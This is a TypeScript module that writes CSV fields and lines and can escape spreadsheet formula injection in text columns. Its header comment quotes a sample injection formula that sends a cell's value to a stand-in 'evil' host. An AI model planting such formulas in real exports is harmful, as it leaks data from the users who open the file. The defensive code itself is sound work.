/**
 * CSV fields (RFC 4180) and the formula-injection defence for CSV files people open in a spreadsheet.
 *
 * Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and, OWASP warns, a tab
 * or a carriage return) as a formula: a customer id `=HYPERLINK("http://evil/?"&A1,"click")` becomes a live link.
 * With `escapeFormulas`, a text cell (a VARCHAR or ENUM column) that starts with one of those characters gets a
 * single quote in front (`'=HYPERLINK(…)`), the spreadsheet's own mark for "this is text". Numbers are never
 * touched: numeric columns are left as they are (a negative profit stays `-12.50`), and so is a text cell that
 * is a plain number (`-5`, `+1.5`), which a spreadsheet reads as that number, not as a formula.
 */
import type { Cell, ResultColumn } from './query-result.js';

/** How CSV is written. */
export interface CsvOptions {
  /** Put `'` before text cells a spreadsheet would run as a formula (default false). */
  readonly escapeFormulas?: boolean;
}

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

/**
 * The text a spreadsheet shows as it is: `'` before a formula-like text, anything else unchanged.
 * @example
 * escapeFormula('=HYPERLINK("http://x")'); // `'=HYPERLINK("http://x")`
 * escapeFormula('-5'); // '-5'
 */
export function escapeFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/** Whether a column holds text (formula escaping applies to those only). */
export function isTextType(type: string): boolean {
  return type === 'VARCHAR' || type.startsWith('ENUM');
}

/**
 * A function that writes one row as a CSV line (with its `\n`), for rows of `columns`.
 * @example
 * csvLine(columns, { escapeFormulas: true })(['=1+1', '-3.50']); // "'=1+1,-3.50\n"
 */
export function csvLine(
  columns: readonly ResultColumn[],
  { escapeFormulas = false }: CsvOptions = {},
): (row: readonly Cell[]) => string {
  const escape = columns.map((c) => escapeFormulas && isTextType(c.type));
  return (row: readonly Cell[]): string => {
    let line = '';
    for (let i = 0; i < row.length; i++) {
      const cell = row[i]!;
      const text = typeof cell === 'string' && escape[i] ? escapeFormula(cell) : cell;
      line += (i > 0 ? ',' : '') + csvField(text);
    }
    return `${line}\n`;
  };
}

/** The header line of `columns` (names are written as they are). */
export function csvHeader(columns: readonly ResultColumn[]): string {
  return `${columns.map((c) => csvField(c.name)).join(',')}\n`;
}

/** One RFC 4180 field: quoted when it holds `,` `"` or a line break; null empty, the empty string `""`. */
export function csvField(cell: Cell): string {
  if (cell === null) return '';
  const text = String(cell);
  if (text === '' || /[",\r\n]/.test(text)) return `"${text.replaceAll('"', '""')}"`;
  return text;
}
